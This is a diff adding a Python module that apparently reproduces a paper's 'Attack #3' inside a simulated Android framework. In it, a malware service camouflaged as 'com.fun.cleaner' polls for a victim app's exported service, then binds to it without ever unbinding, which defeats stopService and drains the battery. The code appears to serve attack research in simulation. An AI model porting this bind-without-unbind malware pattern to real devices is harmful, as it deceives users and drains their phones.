@@ -1,0 +1,66 @@
+"""Attack #3 — bind to services without unbinding.
+
+"An exported service bound by malware will keep alive infinitely and
+drain battery even after the victim attempts to stop the service"
+(§III-B).  The payload polls for the victim's service to come up ("it
+binds the victim's service once it detects the service is started",
+§VI-A) and then binds without ever unbinding; the bound connection
+defeats the victim's ``stopService``/``stopSelf``.
+"""
+
+from __future__ import annotations
+
+from ..android.app import App
+from ..android.intent import ComponentName, Intent
+from ..apps.demo import VICTIM_PACKAGE
+from .base import MalwareService, build_malware_app
+
+BIND_PACKAGE = "com.fun.cleaner"  # camouflage
+
+
+class BindService(MalwareService):
+    """Watches for the victim service, binds, and never unbinds."""
+
+    victim_package: str = VICTIM_PACKAGE
+    victim_service: str = "VictimWorkService"
+    #: Give up polling after this long (0 disables the payload timer).
+    watch_duration_s: float = 3600.0
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.connection = None
+        self._elapsed = 0.0
+
+    def run_payload(self, intent: Intent) -> None:
+        self._poll()
+
+    def _poll(self) -> None:
+        assert self.context is not None
+        if self.connection is not None:
+            return
+        record = self.context.system.am.service_record(
+            self.victim_package, self.victim_service
+        )
+        if record is not None:
+            self.connection = self.context.bind_service(
+                Intent(
+                    component=ComponentName(self.victim_package, self.victim_service)
+                )
+            )
+            return
+        self._elapsed += self.poll_interval_s
+        if self._elapsed < self.watch_duration_s:
+            self.context.schedule(self.poll_interval_s, self._poll, name="bind-poll")
+
+
+def build_bind_malware(
+    victim_package: str = VICTIM_PACKAGE, victim_service: str = "VictimWorkService"
+) -> App:
+    """Attack #3 malware (no permissions: the service is exported)."""
+
+    class ConfiguredBindService(BindService):
+        pass
+
+    ConfiguredBindService.victim_package = victim_package
+    ConfiguredBindService.victim_service = victim_service
+    return build_malware_app(BIND_PACKAGE, ConfiguredBindService, permissions=())
